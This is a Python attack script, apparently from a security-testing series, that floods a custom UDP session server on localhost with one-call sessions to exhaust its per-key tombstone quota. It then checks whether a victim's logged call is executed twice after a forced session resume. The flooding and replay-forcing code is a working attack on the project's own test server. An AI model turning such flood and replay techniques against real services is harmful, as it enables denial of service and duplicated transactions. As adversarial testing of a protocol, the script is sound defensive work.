"""ATTACK (stop 65c): get around the per-key limit on tombstone places ("64 places per session place,
262,144 by default ... once half are taken a key holds at most a quarter of them", security.md).
Page-only (docs/PROTOCOL-v5.md, docs/security.md); the server is a black box (count_server.py of stop 65).

A flooder makes sessions with one call each (count, function 2: not logged) and lets each go silent, so
the server forgets them for room and keeps a tombstone for each (as stop 65b's attack_tomb_exhaust.py).
KEYS is a comma list of groups of the flooder's key files (a group: files joined by +, which take
turns INIT by INIT), groups used ONE AFTER ANOTHER: it moves to the next key when
the current one's INITs go unanswered (< 30 % answered over the last 2 s: that key is at its limit), so
the first key can take up to half of the places before the limit starts, the next ones a quarter each.
Victim (key 1, page-following, raw): at +VICTIM_AT s makes session A and runs call X (logged); its reply
and resends are dropped on the path. After the flood, PROBE key-1 one-call clients at 400/s (key 1 then
passes its quota of sessions, so the server must forget its silent ones, A first, each needing a
tombstone): how many get a session at their first INIT? Then the victim's resend under A, and, if A is
younger than 175 s, its resume naming A, and X resent under the new session. runs.log: X ran how often?

MIDPROBE=N: also N key-1 clients when the first group of keys reaches its limit.
Usage: ATTACK_DIR=DIR [MIDPROBE=N] python attack_tomb_quota.py PORT TOTAL RATE KEYS [PROBE] [VICTIM_AT]
  e.g. ... 47850 141000 500 client3.json 1300 125       (one other key: stop 65b's attack, scaled)
       ... 47851 270000 900 client3.json,client4.json+client5.json 1300 150   (three keys)
Who: on-path (drops X's reply) + holder of keys other than key 1. Takes about TOTAL/RATE + 15 s."""
import sys, os, time, socket, struct, collections
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "issue52_s65"))
from common import *
import common


def stats(port):  # the observer (key 2) makes a new session for each reading
    for i in range(3):
        common._obs.clear()
        try:
            r = common.stats(port)
        except TimeoutError:  # the observer's (key 2's) INIT went unanswered: record it
            r = None; print("  (observer, key 2: INIT unanswered)", flush=True)
        if r: return r
    return {'tombstones': -1}


PORT = int(sys.argv[1]); TOTAL = int(sys.argv[2]); RATE = float(sys.argv[3])
GROUPS = [[load_client(os.path.join(AD, k)) for k in g.split("+")] for g in sys.argv[4].split(",")]
KEYS = GROUPS  # one entry per group; a group's keys take turns, INIT by INIT
PROBE = int(sys.argv[5]) if len(sys.argv) > 5 else 0
VICTIM_AT = float(sys.argv[6]) if len(sys.argv) > 6 else 0.0
SRV = ("127.0.0.1", PORT)
print("before:", stats(PORT), flush=True)

fs = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fs.bind(("127.0.0.1", 0))
fs.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20); fs.setblocking(False)
pend = {}; made = 0; acc = 0; frid = int.from_bytes(os.urandom(4), "big")
ki = 0; per_key = [[0, 0] for _ in KEYS]  # made, accepted
win = collections.deque()  # (t, key index, answered?) of recent INITs
sent_t = {}


def drain():
    global acc, frid
    while True:
        try:
            d = fs.recv(70000)
        except BlockingIOError:
            return
        h = parse_hdr(d)
        if h and h["typ"] == T_ACCEPT and h["req_id"] in pend:
            ini, e, psk, k = pend.pop(h["req_id"])
            kc, ks, _, _ = derive(psk, ini, d, nb.crypto_scalarmult(e, d[34:66]))
            s = Sess(struct.unpack(">Q", d[26:34])[0], kc, ks, 0)
            acc += 1; per_key[k][1] += 1; frid += 1
            fs.sendto(s.seal(T_REQ, 2, frid, 0, 1, 1, 0, b"c"), SRV)  # one call: the line has run a call


def probe(n, label):
    global acc
    kid, psk = load_client(os.path.join(AD, "client.json")); pend.clear(); n0 = acc; pm = 0; t1 = time.monotonic()
    while pm < n:
        want = int((time.monotonic() - t1) * 400)
        while pm < min(want, n):
            hid = int.from_bytes(os.urandom(6), "big") or 1; e = os.urandom(32)
            ini = make_init(psk, kid, hid, e, int(time.time() * 1000)); pend[hid] = (ini, e, psk, 0); fs.sendto(ini, SRV); pm += 1
        drain(); time.sleep(0.005)
    time.sleep(0.5); drain(); acc_k1 = acc - n0; per_key[0][1] -= acc_k1
    print(f"key 1 churn probe ({label}): {pm} INITs, {acc_k1} sessions made at the first INIT", flush=True); print("  stats:", stats(PORT), flush=True)


MIDPROBE = int(os.environ.get("MIDPROBE", 0))
v = None; A = None; X = None; rid = None; tc_A = None
t0 = time.monotonic(); nxt = 10; switch_chk = t0 + 3; mark = (0, 0)
while made < TOTAL:
    t = time.monotonic()
    if v is None and t - t0 >= VICTIM_AT:
        v = Client(PORT); A = v.handshake(); X = os.urandom(32); rid = int.from_bytes(os.urandom(5), "big")
        v.send(v.req_dgrams(1, rid, X, sess=A)[0]); tc_A = time.monotonic()
        print(f"+{t-t0:.0f}s victim: X under A:", ans(v, A, 0.2), "(reply dropped on the path)", flush=True)
    want = int((t - t0) * RATE)
    while made < min(want, TOTAL):
        kid, psk = KEYS[ki][made % len(KEYS[ki])]
        hid = int.from_bytes(os.urandom(6), "big") or 1; e = os.urandom(32)
        ini = make_init(psk, kid, hid, e, int(time.time() * 1000))
        pend[hid] = (ini, e, psk, ki); fs.sendto(ini, SRV); made += 1; per_key[ki][0] += 1
        if made % 32 == 0:
            drain()
    drain()
    if len(pend) > 20000:
        pend.clear()
    if t >= switch_chk:  # this key's answers over the last 2 s
        m, a = per_key[ki]; dm, da = m - mark[0], a - mark[1]
        if dm > 200 and da < 0.3 * dm and ki + 1 < len(KEYS):
            print(f"+{t-t0:.0f}s key file {ki} answered {da}/{dm} over 2 s: at its limit; next key. per key made/acc {per_key}", flush=True)
            if ki == 0 and MIDPROBE:  # one other key at its limit: can key 1 still churn?
                drain(); tp = time.monotonic(); probe(MIDPROBE, "mid (first flooder key at its limit)"); t0 += time.monotonic() - tp
            ki += 1; mark = tuple(per_key[ki])
        else:
            mark = (m, a)
        switch_chk = t + 2
    if t - t0 > nxt:
        st = stats(PORT); print(f"+{t-t0:.0f}s made {made} accepted {acc} per key {per_key}:", st, flush=True); nxt += 10
    time.sleep(0.004)
time.sleep(0.5); drain()
print(f"+{time.monotonic()-t0:.0f}s flood done: made {made} accepted {acc} per key {per_key}:", stats(PORT), flush=True)
if PROBE:
    probe(PROBE, "end")
if v is not None:
    v.send(v.req_dgrams(1, rid, X, sess=A)[0]); a = ans(v, A, 0.3); age = time.monotonic() - tc_A
    print(f"victim (A age {age:.0f} s) resend under A ->", a)
    if age < 175:
        if "NO_SESSION" not in a:
            print("(no NO_SESSION: an on-path attacker forges one)")
        try:
            B = v.handshake(prev=A, timeout=1.5)
            v.send(v.req_dgrams(1, rid, X, sess=B)[0]); print("resumed B (prev=A); X resent under B:", ans(v, B, 0.4))
        except TimeoutError:
            print("resume INIT unanswered (table_full?)")
    else:
        print("A older than 175 s: a page-following client would not name it")
    print("after:", stats(PORT))
    n = runs(X); print("X ran", len(n), "times", "<-- RAN TWICE" if len(n) > 1 else "")
dup = collections.Counter(l.split()[0] for l in open(os.path.join(AD, "runs.log"))) if os.path.exists(os.path.join(AD, "runs.log")) else {}
print("runs.log: lines", sum(dup.values()), "hashes run more than once:", sum(1 for c in dup.values() if c > 1))
